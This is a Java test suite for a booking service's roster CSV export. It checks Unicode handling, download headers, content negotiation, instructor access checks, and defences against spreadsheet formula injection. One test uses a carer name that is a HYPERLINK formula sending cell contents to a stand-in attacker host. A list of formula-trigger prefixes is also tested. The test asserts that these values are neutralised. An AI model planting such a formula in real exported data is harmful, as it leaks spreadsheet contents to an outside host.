package org.bearhug.booking.roster;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.startsWith;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import jakarta.inject.Inject;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.UUID;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.bearhug.booking.Carer;
import org.bearhug.booking.Given;
import org.bearhug.booking.TaughtBlock;
import org.bearhug.testing.Person;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.NullAndEmptySource;
import org.junit.jupiter.params.provider.ValueSource;

/** The roster in a spreadsheet: whole, and without a name that calculates. */
@QuarkusTest
class RosterTableTest {

    @Inject
    Given given;

    private TaughtBlock block;

    @BeforeEach
    void a_week_before() {
        given.a_week_before();
        block = given.block().ofSessions(1).published();
    }

    @Test
    void names_come_through_whole_whatever_is_in_them() throws IOException {
        Carer carer = new Carer(UUID.randomUUID(), "Zoë \"Zo\" O'Neil, the 2nd\nof Łódź").known();
        await().until(() -> given.sql().one("SELECT 1 FROM carer WHERE id = ?", carer.id()) != null);
        carer.bookBlock(block.id(), carer.child("Björk; 赤ちゃん", 10)).then().statusCode(201);

        CSVRecord line = table(table(Person.INES, block, null)).get(0);

        assertThat(line.get("child")).isEqualTo("Björk; 赤ちゃん");
        assertThat(line.get("carer")).isEqualTo("Zoë \"Zo\" O'Neil, the 2nd\nof Łódź");
        assertThat(line.get("ageWeeks")).isEqualTo("10");
        assertThat(line.get("attendance")).isEqualTo("UNKNOWN");
        assertThat(line.get("observedSeconds")).isEmpty();
        assertThat(line.get("localStart")).isEqualTo("2031-03-10T10:00");
    }

    @Test
    void it_is_a_file_in_utf8_that_nobody_keeps_a_copy_of() {
        Response answer = table(Person.INES, block, null);

        answer.then()
                .statusCode(200)
                .header("Content-Type", startsWith("text/csv;charset=UTF-8"))
                .header(
                        "Content-Disposition",
                        "attachment; filename=\"roster-2031-03-10-" + block.session(0) + ".csv\"")
                .header("Cache-Control", "no-store")
                .header("X-Content-Type-Options", "nosniff");
        assertThat(answer.asByteArray()).startsWith(0xEF, 0xBB, 0xBF);
        assertThat(text(answer)).endsWith("\r\n");
    }

    @Test
    void whoever_accepts_a_table_gets_the_same_one_from_the_roster_itself() {
        assertThat(text(table(Person.INES, block, "text/csv"))).isEqualTo(text(table(Person.INES, block, null)));
        asked(Person.INES, "application/json, text/csv;q=0.5", "")
                .then()
                .statusCode(200)
                .body("sessionId", equalTo(block.session(0).toString()));
        asked(Person.INES, "*/*", "").then().contentType("application/json");
    }

    @Test
    void a_name_that_would_calculate_is_only_shown() throws IOException {
        Carer carer = new Carer(UUID.randomUUID(), "=HYPERLINK(\"https://evil.example/?\"&A2,\"Click\")").known();
        await().until(() -> given.sql().one("SELECT 1 FROM carer WHERE id = ?", carer.id()) != null);
        carer.bookBlock(block.id(), carer.child("＋1+1", 10)).then().statusCode(201);

        CSVRecord line = table(table(Person.INES, block, null)).get(0);

        assertThat(line.get("carer")).isEqualTo("'=HYPERLINK(\"https://evil.example/?\"&A2,\"Click\")");
        assertThat(line.get("child")).isEqualTo("'＋1+1");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(1)",
                "\t=1",
                "\tMia",
                "\rMia",
                "＝1",
                "＋1",
                "－1",
                "＠a",
                " =1",
                "\u00a0=1",
                "\u200b=1"
            })
    void what_a_cell_must_not_begin_with_gets_an_apostrophe(String typed) {
        assertThat(RosterCsv.harmless(typed)).isEqualTo("'" + typed);
    }

    @ParameterizedTest
    @NullAndEmptySource
    @ValueSource(strings = {"Mia", "Anne-Marie", "A=B", "'t Hooft", " "})
    void what_is_only_a_name_stays_as_it_is(String typed) {
        assertThat(RosterCsv.harmless(typed)).isEqualTo(typed);
    }

    @Test
    void another_instructor_gets_a_problem_and_no_table() {
        table(Person.NOOR, block, null).then().statusCode(404).contentType("application/problem+json");
        table(Person.CARA, block, "text/csv").then().statusCode(403).body("code", equalTo("forbidden"));
    }

    private static Response table(Person who, TaughtBlock block, String accept) {
        return accept == null ? asked(who, block, "*/*", ".csv") : asked(who, block, accept, "");
    }

    private Response asked(Person who, String accept, String ending) {
        return asked(who, block, accept, ending);
    }

    private static Response asked(Person who, TaughtBlock block, String accept, String ending) {
        return Carer.nobody()
                .auth()
                .oauth2(who.token())
                .accept(accept)
                .get("/v1/sessions/" + block.session(0) + "/roster" + ending);
    }

    private static List<CSVRecord> table(Response answer) throws IOException {
        try (CSVParser table = CSVFormat.RFC4180
                .builder()
                .setHeader()
                .setSkipHeaderRecord(true)
                .get()
                .parse(new java.io.StringReader(text(answer).substring(1)))) {
            return table.getRecords();
        }
    }

    private static String text(Response answer) {
        return new String(answer.asByteArray(), StandardCharsets.UTF_8);
    }
}
